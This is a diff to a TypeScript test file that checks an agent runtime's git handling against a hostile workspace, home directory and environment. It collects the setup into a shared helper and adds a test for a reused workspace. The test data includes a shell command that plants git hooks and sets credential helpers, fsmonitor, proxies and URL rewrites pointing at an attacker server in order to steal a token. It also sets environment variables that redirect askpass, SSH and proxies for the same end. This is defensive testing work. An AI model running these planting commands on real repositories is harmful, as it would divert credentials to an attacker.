@@ -6,7 +6,8 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import pino from "pino";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { bareRepo, branchCommit, gitHttpServer } from "../test/support/git.ts";
+import type { AgentState } from "../schema/contract/index.ts";
+import { bareRepo, branchCommit, type GitHttpServer, gitHttpServer, gitIn } from "../test/support/git.ts";
 import { type AgentOptions, runTask } from "./agent.ts";
 import { runTaskWithGitContainer } from "./git-container.test-support.ts";
 
@@ -166,6 +167,133 @@ const MODES = {
   "in the git container": async (options: AgentOptions) => (await runTaskWithGitContainer(options)).state,
 };
 
+interface Hostile {
+  attacker: Attacker;
+  server: GitHttpServer;
+  realRepo: string;
+  loot: string;
+  /** A task whose command plants every vector in the workspace, $HOME and XDG config, then edits the README. */
+  task: (stateDir: string) => AgentOptions;
+  close(): Promise<void>;
+}
+
+/** The real server and repository, the attacker's, the kit, a planting editor, and a hostile task. */
+async function hostile(): Promise<Hostile> {
+  const attacker = await attackerServer();
+  const server = await gitHttpServer(dir, { username: "x-access-token", password: TOKEN });
+  const realRepo = join(dir, "private.git");
+  await bareRepo(realRepo);
+  const real = server.url("private.git").replace(/\/private\.git$/, "");
+  const secretDir = join(dir, "secret");
+  await mkdir(secretDir);
+  await writeFile(join(secretDir, "token"), `${TOKEN}\n`);
+  await chmod(join(secretDir, "token"), 0o440);
+  const loot = join(dir, "loot");
+  await mkdir(loot);
+  const kit = await plantKit(join(dir, "kit"), loot, secretDir, attacker.url, real);
+
+  // The command's HOME and XDG config, both planted before the runtime starts and by the command.
+  const home = join(dir, "home");
+  await mkdir(join(home, ".config", "git"), { recursive: true });
+  await writeFile(join(home, ".gitconfig"), `[include]\n\tpath = ${kit.config}\n`);
+  await writeFile(join(home, ".config", "git", "config"), `[include]\n\tpath = ${kit.config}\n`);
+  const templates = join(dir, "templates");
+  await mkdir(join(templates, "hooks"), { recursive: true });
+  for (const hook of HOOKS)
+    await writeFile(join(templates, "hooks", hook), thief(loot, secretDir, `template-${hook}`), {
+      mode: 0o755,
+    });
+
+  // Everything the task's spec.agent.env could set, as the runtime and the command inherit it.
+  const env: NodeJS.ProcessEnv = {
+    PATH: `${kit.bin}:${process.env.PATH}`,
+    HOME: home,
+    XDG_CONFIG_HOME: join(home, ".config"),
+    GIT_CONFIG_GLOBAL: kit.config,
+    GIT_CONFIG_SYSTEM: kit.config,
+    GIT_CONFIG_PARAMETERS: `'include.path'='${kit.config}'`,
+    GIT_TEMPLATE_DIR: templates,
+    GIT_ASKPASS: join(kit.bin, "askpass"),
+    SSH_ASKPASS: join(kit.bin, "askpass"),
+    GIT_SSH_COMMAND: join(kit.bin, "ssh"),
+    GIT_PROXY_COMMAND: join(kit.bin, "ssh"),
+    GIT_SSL_NO_VERIFY: "1",
+    GIT_TRACE: join(loot, "trace"),
+    GIT_TRACE_CURL: join(loot, "trace-curl"),
+    GIT_TRACE_PACKET: join(loot, "trace-packet"),
+    GIT_TRACE_REDACT: "0",
+    GIT_CURL_VERBOSE: "1",
+    http_proxy: attacker.url,
+    HTTP_PROXY: attacker.url,
+    https_proxy: attacker.url,
+    ALL_PROXY: attacker.url,
+  };
+  const workspace = join(dir, "workspace");
+  // The editor's loop copies the same hooks at the same time; two `cp`s creating one new file race
+  // (the loser exits 1 with EEXIST), so the command copies each under a name of its own and renames.
+  const plant = [
+    `for hook in "${kit.hooks}"/*; do cp "$hook" .git/hooks/.plant && mv -f .git/hooks/.plant ".git/hooks/\${hook##*/}" || exit 1; done`,
+    `/usr/bin/git config --local include.path "${kit.config}"`,
+    `/usr/bin/git config --local core.hooksPath "${kit.hooks}"`,
+    `/usr/bin/git config --local core.fsmonitor "${kit.bin}/fsmonitor"`,
+    `/usr/bin/git config --local credential.helper "${kit.bin}/helper"`,
+    `/usr/bin/git config --local http.proxy "${attacker.url}"`,
+    `/usr/bin/git config --local http.sslVerify false`,
+    `/usr/bin/git config --local url."${attacker.url}/".insteadOf "${real}/"`,
+    `/usr/bin/git config --local remote.origin.url "${attacker.url}/stolen.git"`,
+    `cp "${kit.config}" "$HOME/.gitconfig"`,
+    `cp "${kit.config}" "$XDG_CONFIG_HOME/git/config"`,
+    `echo '* diff=steal' > .gitattributes`,
+    "echo change >> README.md",
+  ].join(" && ");
+  const planter = editor(workspace, kit);
+  return {
+    attacker,
+    server,
+    realRepo,
+    loot,
+    task: (stateDir) => ({
+      task: "steal",
+      org: "acme",
+      namespace: "org-acme",
+      attempt: 1,
+      prompt: "Change the README",
+      stateDir,
+      workspace,
+      repo: { url: server.url("private.git"), branch: "main" },
+      command: ["/bin/sh", "-c", plant],
+      gitCredentialsDir: secretDir,
+      env,
+      stdout: () => {},
+      stderr: () => {},
+      log: pino({ level: "silent" }),
+      killGraceMs: 2_000,
+    }),
+    async close() {
+      planter.kill("SIGKILL");
+      await attacker.close();
+      await server.close();
+    },
+  };
+}
+
+/** The push of `state` landed in the real repository, and nothing planted saw the token or ran. */
+async function expectLandedUnstolen(h: Hostile, state: AgentState): Promise<void> {
+  expect(state, state.message).toMatchObject({ exitCode: 0, lastPR: { branch: "agentyard/steal" } });
+  // The push landed in the real repository, with the token, which only the real server saw.
+  expect(await branchCommit(h.realRepo, "agentyard/steal")).toBe(state.lastPR?.commit);
+  expect(h.server.authorizations).toContain(
+    `Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`,
+  );
+  expect(h.attacker.requests).toEqual([]);
+  // Nothing planted ran while the runtime's git did: the only loot is the trace of the command's
+  // own `git config` calls, which the task's GIT_TRACE reached as it should.
+  const looted = await filesUnder(h.loot);
+  for (const file of looted) expect(await readFile(file, "utf8"), file).not.toContain(TOKEN);
+  expect(looted.map((f) => f.slice(h.loot.length + 1))).toEqual(["trace"]);
+  expect(await readFile(join(h.loot, "trace"), "utf8")).not.toMatch(/\b(clone|fetch|checkout|commit|push)\b/);
+}
+
 describe.each(Object.entries(MODES))(
   "the runtime's git %s, with a hostile workspace, HOME and environment",
   {
@@ -173,112 +301,28 @@ describe.each(Object.entries(MODES))(
   },
   (_mode, run) => {
     it("never hands the token to planted code or another server, and the push still lands", async () => {
-      const attacker = await attackerServer();
-      const server = await gitHttpServer(dir, { username: "x-access-token", password: TOKEN });
-      const realRepo = join(dir, "private.git");
-      await bareRepo(realRepo);
-      const real = server.url("private.git").replace(/\/private\.git$/, "");
-      const secretDir = join(dir, "secret");
-      await mkdir(secretDir);
-      await writeFile(join(secretDir, "token"), `${TOKEN}\n`);
-      await chmod(join(secretDir, "token"), 0o440);
-      const loot = join(dir, "loot");
-      await mkdir(loot);
-      const kit = await plantKit(join(dir, "kit"), loot, secretDir, attacker.url, real);
-
-      // The command's HOME and XDG config, both planted before the runtime starts and by the command.
-      const home = join(dir, "home");
-      await mkdir(join(home, ".config", "git"), { recursive: true });
-      await writeFile(join(home, ".gitconfig"), `[include]\n\tpath = ${kit.config}\n`);
-      await writeFile(join(home, ".config", "git", "config"), `[include]\n\tpath = ${kit.config}\n`);
-      const templates = join(dir, "templates");
-      await mkdir(join(templates, "hooks"), { recursive: true });
-      for (const hook of HOOKS)
-        await writeFile(join(templates, "hooks", hook), thief(loot, secretDir, `template-${hook}`), {
-          mode: 0o755,
-        });
-
-      // Everything the task's spec.agent.env could set, as the runtime and the command inherit it.
-      const env: NodeJS.ProcessEnv = {
-        PATH: `${kit.bin}:${process.env.PATH}`,
-        HOME: home,
-        XDG_CONFIG_HOME: join(home, ".config"),
-        GIT_CONFIG_GLOBAL: kit.config,
-        GIT_CONFIG_SYSTEM: kit.config,
-        GIT_CONFIG_PARAMETERS: `'include.path'='${kit.config}'`,
-        GIT_TEMPLATE_DIR: templates,
-        GIT_ASKPASS: join(kit.bin, "askpass"),
-        SSH_ASKPASS: join(kit.bin, "askpass"),
-        GIT_SSH_COMMAND: join(kit.bin, "ssh"),
-        GIT_PROXY_COMMAND: join(kit.bin, "ssh"),
-        GIT_SSL_NO_VERIFY: "1",
-        GIT_TRACE: join(loot, "trace"),
-        GIT_TRACE_CURL: join(loot, "trace-curl"),
-        GIT_TRACE_PACKET: join(loot, "trace-packet"),
-        GIT_TRACE_REDACT: "0",
-        GIT_CURL_VERBOSE: "1",
-        http_proxy: attacker.url,
-        HTTP_PROXY: attacker.url,
-        https_proxy: attacker.url,
-        ALL_PROXY: attacker.url,
-      };
-      const workspace = join(dir, "workspace");
-      // The editor's loop copies the same hooks at the same time; two `cp`s creating one new file race
-      // (the loser exits 1 with EEXIST), so the command copies each under a name of its own and renames.
-      const plant = [
-        `for hook in "${kit.hooks}"/*; do cp "$hook" .git/hooks/.plant && mv -f .git/hooks/.plant ".git/hooks/\${hook##*/}" || exit 1; done`,
-        `/usr/bin/git config --local include.path "${kit.config}"`,
-        `/usr/bin/git config --local core.hooksPath "${kit.hooks}"`,
-        `/usr/bin/git config --local core.fsmonitor "${kit.bin}/fsmonitor"`,
-        `/usr/bin/git config --local credential.helper "${kit.bin}/helper"`,
-        `/usr/bin/git config --local http.proxy "${attacker.url}"`,
-        `/usr/bin/git config --local http.sslVerify false`,
-        `/usr/bin/git config --local url."${attacker.url}/".insteadOf "${real}/"`,
-        `/usr/bin/git config --local remote.origin.url "${attacker.url}/stolen.git"`,
-        `cp "${kit.config}" "$HOME/.gitconfig"`,
-        `cp "${kit.config}" "$XDG_CONFIG_HOME/git/config"`,
-        `echo '* diff=steal' > .gitattributes`,
-        "echo change >> README.md",
-      ].join(" && ");
-      const planter = editor(workspace, kit);
+      const h = await hostile();
       try {
-        const state = await run({
-          task: "steal",
-          org: "acme",
-          namespace: "org-acme",
-          attempt: 1,
-          prompt: "Change the README",
-          stateDir: join(dir, "state"),
-          workspace,
-          repo: { url: server.url("private.git"), branch: "main" },
-          command: ["/bin/sh", "-c", plant],
-          gitCredentialsDir: secretDir,
-          env,
-          stdout: () => {},
-          stderr: () => {},
-          log: pino({ level: "silent" }),
-          killGraceMs: 2_000,
-        });
+        await expectLandedUnstolen(h, await run(h.task(join(dir, "state"))));
+      } finally {
+        await h.close();
+      }
+    });
 
-        expect(state, state.message).toMatchObject({ exitCode: 0, lastPR: { branch: "agentyard/steal" } });
-        // The push landed in the real repository, with the token, which only the real server saw.
-        expect(await branchCommit(realRepo, "agentyard/steal")).toBe(state.lastPR?.commit);
-        expect(server.authorizations).toContain(
-          `Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`,
-        );
-        expect(attacker.requests).toEqual([]);
-        // Nothing planted ran while the runtime's git did: the only loot is the trace of the command's
-        // own `git config` calls, which the task's GIT_TRACE reached as it should.
-        const looted = await filesUnder(loot);
-        for (const file of looted) expect(await readFile(file, "utf8"), file).not.toContain(TOKEN);
-        expect(looted.map((f) => f.slice(loot.length + 1))).toEqual(["trace"]);
-        expect(await readFile(join(loot, "trace"), "utf8")).not.toMatch(
-          /\b(clone|fetch|checkout|commit|push)\b/,
+    it("reuses a persistent workspace an earlier pod's command planted, and still runs nothing planted", async () => {
+      const h = await hostile();
+      try {
+        const first = await run(h.task(join(dir, "state-1")));
+        expect(first.exitCode, first.message).toBe(0);
+        // The next pod: a new state folder (and handoff folder), the planted workspace as it was left.
+        const second = await run(h.task(join(dir, "state-2")));
+        await expectLandedUnstolen(h, second);
+        expect(second.lastPR?.diffstat).toMatchObject({ files: 2 });
+        expect(await gitIn(h.realRepo, ["show", "agentyard/steal:README.md"])).toBe(
+          "# demo\nchange\nchange\n",
         );
       } finally {
-        planter.kill("SIGKILL");
-        await attacker.close();
-        await server.close();
+        await h.close();
       }
     });
   },
